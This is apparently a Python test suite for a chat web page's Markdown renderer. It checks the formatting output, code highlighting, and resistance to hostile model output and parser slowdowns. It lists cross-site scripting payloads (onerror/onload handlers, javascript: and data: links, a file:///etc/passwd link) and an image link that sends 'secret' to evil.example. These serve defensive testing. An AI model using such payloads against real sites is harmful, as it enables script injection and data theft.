"""What models write, as the page shows it: Markdown, and that hostile text is inert."""

import json
import pathlib
import sys
import unittest

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent))
import browser  # noqa: E402
from mock_server import MockServer, Reply  # noqa: E402

SKIPPED = 77
LINK = '<a href="{0}" title="{0}" target="_blank" rel="noopener noreferrer">{1}</a>'

# Markdown and the elements that it becomes; what is between the elements is text.
SHOWN = {
    "a *b* **c** ***d*** ~~e~~ `f*`": "<p>a <em>b</em> <strong>c</strong> <em><strong>d</strong>"
                                      "</em> <del>e</del> <code>f*</code></p>",
    "2 * 3 * 4, snake_case_name, a ** b": "<p>2 * 3 * 4, snake_case_name, a ** b</p>",
    "**bold *and italic* in it** _so_": "<p><strong>bold <em>and italic</em> in it</strong> "
                                        "<em>so</em></p>",
    "**open": "<p>**open</p>",
    "``a ` b`` and `open": "<p><code>a ` b</code> and `open</p>",
    r"\*no\* &lt;b&gt; &copy;": "<p>*no* &lt;b&gt; &amp;copy;</p>",
    "one\ntwo": "<p>one<br>two</p>",
    "# T #\ntext\n---": "<h2>T</h2><p>text</p><hr>",
    "- a\n- b\n  1. c\n  2. d\n\nend": "<ul><li>a</li><li>b<ol><li>c</li><li>d</li></ol></li></ul>"
                                       "<p>end</p>",
    "3. c\n4. d": '<ol start="3"><li>c</li><li>d</li></ol>',
    "- [ ] a\n- [x] b": "<ul><li>\u2610 a</li><li>\u2611 b</li></ul>",
    "- a\n\n- b": "<ul><li><p>a</p></li><li><p>b</p></li></ul>",
    "In 2024.\n1968. A year": "<p>In 2024.<br>1968. A year</p>",
    "> a\n> > b": "<blockquote><p>a</p><blockquote><p>b</p></blockquote></blockquote>",
    "| a | b |\n|---|--:|\n| `x\\|y` | 2 |\n| 3 |":
        '<div class="table"><table><thead><tr><th class="left">a</th><th class="right">b</th></tr>'
        '</thead><tbody><tr><td class="left"><code>x|y</code></td><td class="right">2</td></tr>'
        '<tr><td class="left">3</td><td class="right"></td></tr></tbody></table></div>',
    "[a](https://x.org/ \"t\"), <https://y.org/>.":
        "<p>" + LINK.format("https://x.org/", "a") + ", "
        + LINK.format("https://y.org/", "https://y.org/") + ".</p>",
    "(see https://x.org/a_(b)).":
        "<p>(see " + LINK.format("https://x.org/a_(b)", "https://x.org/a_(b)") + ").</p>",
    "[**a**](http://x.org/)": "<p>" + LINK.format("http://x.org/", "<strong>a</strong>") + "</p>",
    "![cat](https://x.org/cat.png)":
        "<p>" + LINK.format("https://x.org/cat.png", "image: cat") + "</p>",
}

# Of these nothing becomes an element: they stay the text that they are.
INERT = [
    "<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "<svg onload=alert(1)>",
    "<iframe src=//evil.example></iframe>", "<a href=javascript:alert(1)>x</a>",
    "<style>body{display:none}</style>", "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)", "[x](vbscript:x)", "[x](//evil.example)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)", "[x](file:///etc/passwd)",
    "[x](ftp://evil.example)", "[x](/v1/models)", "<javascript:alert(1)>", "[x](\x01javascript:a)",
    "[x](https://)", "<meta http-equiv=refresh content=0>",
    "<form action=/v1><button>x</button></form>",
]

# Texts that take long if a parser goes back over what it has read.
SLOW = ["*a " * 20000, "[" * 50000, "[a](" * 10000, ">" * 50000, "- " * 25000, "`" + "``a" * 20000,
        "**a*" * 10000, "| " * 30000 + "\n" + "|-" * 300, "_" * 50000, "#" * 50000, "\\" * 50000,
        "```\n" * 15000, "<" * 50000, "&" * 50000, "https://" * 5000,
        "\n".join(" " * depth + "- x" for depth in range(800)), "/*\"'" * 10000]


class MarkdownTest(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.browser = browser.Browser()
        cls.server = MockServer()
        cls.page = browser.Page(cls.browser, cls.server.url)
        cls.page.wait("document.activeElement?.id === 'input'")

    @classmethod
    def tearDownClass(cls):
        cls.browser.close()
        cls.server.stop()

    def setUp(self):
        self.page.js("""import("/web/markdown.js").then(({MarkdownView}) => {
            window.show = (text) => {
                const view = new MarkdownView();
                view.update(text);
                return view.element;
            };
            window.grow = (text) => {
                const view = new MarkdownView();
                for (let end = 0; end <= text.length; end++) view.update(text.slice(0, end));
                return view.element;
            };
        })""")

    def test_shown(self):
        for text, expected in SHOWN.items():
            with self.subTest(text):
                self.assertEqual(self.page.js(f"show({json.dumps(text)}).innerHTML"), expected)

    def test_code(self):
        text = "```js\nlet a = 1;  // <b>\n```\n~~~\n*plain*\n~~~\n- x\n  ```\n  in\n  ```"
        self.assertEqual(
            self.page.js(f"[...show({json.dumps(text)}).querySelectorAll('pre code')]"
                         ".map((e) => e.innerHTML)"),
            ['<span class="t-keyword">let</span> a = <span class="t-number">1</span>;  '
             '<span class="t-comment">// &lt;b&gt;</span>', "*plain*", "in"])

    def test_growing_ends_as_the_whole(self):
        for text in [*SHOWN, "a\n\n```py\nx = 1\n```\n\n- b\n  - c\n\n|a|b|\n|-|-|\n|1|2|"]:
            with self.subTest(text):
                self.assertEqual(self.page.js(f"grow({json.dumps(text)}).innerHTML"),
                                 self.page.js(f"show({json.dumps(text)}).innerHTML"))

    def test_highlighting_loses_nothing(self):
        code = "x = \"a\\\"b\" # 'c\n/* d `e` -- */ <!-- f\nselect 0x1F from t1; f(2.5)\n'''"
        for name in self.page.js("""import("/web/highlight.js").then(({highlight}) => {
                window.highlight = highlight;
                return ["c", "java", "js", "python", "rust", "go", "sh", "sql", "json", "yaml",
                    "css", "html", "c++", "constructor", "", "no such language"];
            })"""):
            self.assertEqual(self.page.js(
                f"highlight({json.dumps(code)}, {json.dumps(name)}).textContent"), code, name)

    def test_inert(self):
        for text in INERT:
            with self.subTest(text):
                self.assertEqual(self.page.js(f"""(() => {{
                    const shown = show({json.dumps(text)});
                    return [shown.querySelectorAll(":not(p)").length, shown.textContent];
                }})()"""), [0, text])

    def test_inert_in_every_place_of_a_conversation(self):
        hostile = "\n".join(INERT) + "\n\n![steal](https://evil.example/?q=secret)\n\n```\n" \
            + "\n".join(INERT) + "\n```\n\n```\"><img/src=x onerror=alert(1)>\nx\n```\n"
        self.server.models = [{"id": "<img src=x onerror=alert(1)>"}]
        self.addCleanup(setattr, self.server, "models", self.server.models)
        self.page.reload()
        self.page.js("window.alert = () => { window.ran = true; }")
        self.page.wait("document.activeElement?.id === 'input'")
        for reply in (Reply(hostile, reasoning=hostile, pieces=40),
                      Reply(status=400, error={"message": hostile})):
            self.server.reply = reply
            self.page.js("document.getElementById('input').focus()")
            self.page.type(hostile)
            self.page.press("Enter")
            self.page.wait("!document.querySelector('.streaming') && "
                           "document.querySelector('article:last-child .stats')")
        self.page.click(".reasoning summary")
        self.page.click("#settings")
        self.assertEqual(self.page.js(
            "document.querySelectorAll('body :is(script, iframe, object, embed, style, form, meta),"
            " #thread :is(img, [onerror], [onload]), [src^=data], [src^=javascript]').length"), 0)
        self.assertEqual(self.page.js("[...new Set([...document.querySelectorAll('#thread a')]"
                                      ".map((a) => new URL(a.href).protocol))]"), ["https:"])
        self.assertFalse(self.page.js("window.ran"))
        self.assertEqual(self.page.complaints(), [])
        for url in self.page.requested():
            self.assertTrue(url.startswith(self.server.url), url)

    def test_no_text_becomes_markup(self):
        self.assertIn("TrustedHTML", self.page.js(
            "(() => { try { document.createElement('p').innerHTML = '<b>'; } "
            "catch (error) { return error.message; } })()"))

    def test_hostile_text_takes_no_long_time(self):
        for text in SLOW:
            for fence in ("", "```c\n"):
                with self.subTest(text[:12], fence=fence):
                    self.assertTrue(self.page.js(
                        f"show({json.dumps(fence + text)}).innerHTML.length > 0"))


if __name__ == "__main__":
    if not browser.program():
        print("chromium is not installed: the page's Markdown is not tested (scripts/setup --test)")
        sys.exit(SKIPPED)
    unittest.main()
